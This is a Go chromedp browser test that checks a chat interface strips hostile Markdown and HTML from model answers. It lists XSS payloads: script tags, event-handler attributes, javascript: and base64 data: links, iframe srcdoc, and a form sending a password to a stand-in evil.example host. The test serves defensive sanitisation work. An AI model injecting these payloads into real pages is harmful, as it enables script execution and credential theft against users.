package browsertest

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// TestChatSanitises makes the mock model answer with hostile Markdown and raw HTML (its test-only
// "回显:" route says the message's text verbatim) and checks, in the page, that none of it ran or
// survived into the message DOM: no script set the window's flag, no javascript:/data: link, no
// event-handler attribute, no iframe, form, style, svg, img or script element.
func TestChatSanitises(t *testing.T) {
	ctx := browser(t)
	h := startHarness(t)
	payloads := []string{
		`<script>window.__pwned = 'script'</script>`,
		`<img src=x onerror="window.__pwned = 'img'">`,
		`![x](javascript:window.__pwned='mdimg')`,
		`[click](javascript:window.__pwned='mdlink')`,
		`[click](JaVaScRiPt:window.__pwned='mdlink2')`,
		`<a href="data:text/html,<script>parent.__pwned='data'</script>">data</a>`,
		`[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0nZGF0YTInPC9zY3JpcHQ+)`,
		`<iframe src="javascript:parent.__pwned='iframe'"></iframe>`,
		`<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
		`<svg onload="window.__pwned='svg'"><circle r=5 /></svg>`,
		`<style>body{display:none}</style>`,
		`<form action="https://evil.example/steal"><input name=password><button>go</button></form>`,
		`<details open ontoggle="window.__pwned='details'">x</details>`,
		"**bold** <b onmouseover=\"window.__pwned='b'\">hover</b> and `<script>` in code",
		`<a href="https://example.org" onclick="window.__pwned='click'">ok link</a>`,
		`[ok](https://example.org/safe)`,
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(h.url+"/chat"), chromedp.WaitVisible(chromedp.ID(`#composer-input`))); err != nil {
		t.Fatal(err)
	}
	for i, p := range payloads {
		if err := chromedp.Do(ctx,
			chromedp.SendKeys(chromedp.ID(`#composer-input`), "回显: "+p),
			chromedp.Click(chromedp.CSS(`.composer button[type=submit]`)),
		); err != nil {
			t.Fatal(err)
		}
		// Wait for this turn's answer: one more bot message than payloads before it.
		if _, err := chromedp.Run(ctx, chromedp.Poll[bool](fmt.Sprintf(`document.querySelectorAll('.msg.bot:not(.live)').length > %d && !!document.querySelector('.composer button[type=submit]')`, i))); err != nil {
			t.Fatalf("payload %d %q: no answer: %v", i, p, err)
		}
	}
	// Hover and click what might carry a handler, then look.
	eval[bool](t, ctx, `(() => { for (const el of document.querySelectorAll('.msg.bot *')) { el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); } return true; })()`)
	if n := eval[int](t, ctx, `document.querySelectorAll('.msg.bot:not(.live)').length`); n != len(payloads) {
		t.Fatalf("%d answers, want %d: %s", n, len(payloads), eval[string](t, ctx, `[...document.querySelectorAll(".msg.bot:not(.live)")].map(e => e.innerHTML).join("\n----\n")`))
	}
	if s := eval[string](t, ctx, `String(window.__pwned ?? '')`); s != "" {
		t.Errorf("a payload ran: window.__pwned = %q", s)
	}
	if s := eval[string](t, ctx, `[...document.querySelectorAll('.msg.bot script, .msg.bot iframe, .msg.bot form, .msg.bot style, .msg.bot svg, .msg.bot img, .msg.bot object, .msg.bot embed, .msg.bot details, .msg.bot button')].map(e => e.outerHTML).join('\n')`); s != "" {
		t.Errorf("dangerous elements in the messages:\n%s", s)
	}
	if s := eval[string](t, ctx, `[...document.querySelectorAll('.msg.bot *')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc').map(a => e.tagName + ' ' + a.name + '=' + a.value)).join('\n')`); s != "" {
		t.Errorf("handler or style attributes in the messages:\n%s", s)
	}
	if s := eval[string](t, ctx, `[...document.querySelectorAll('.msg.bot [href], .msg.bot [src], .msg.bot [action]')].map(e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action')).filter(v => !/^https:\/\//i.test(v)).join('\n')`); s != "" {
		t.Errorf("non-https URLs in the messages:\n%s", s)
	}
	// What is safe still reads: the text stays, https links open outside the app.
	all := text(t, ctx, `.messages`)
	for _, want := range []string{"bold", "hover", "<script>", "ok link"} {
		if !strings.Contains(all, want) {
			t.Errorf("the answers lost %q: %q", want, all)
		}
	}
	if n := eval[int](t, ctx, `document.querySelectorAll('.msg.bot a[href="https://example.org/safe"][target=_blank][rel~=noopener]').length`); n != 1 {
		t.Errorf("the https link is not kept as an outside link (%d)", n)
	}
	if v := eval[string](t, ctx, `getComputedStyle(document.body).display`); v == "none" {
		t.Error("an answer's <style> hid the page")
	}
	shoot(t, ctx, "chat-sanitised")
}
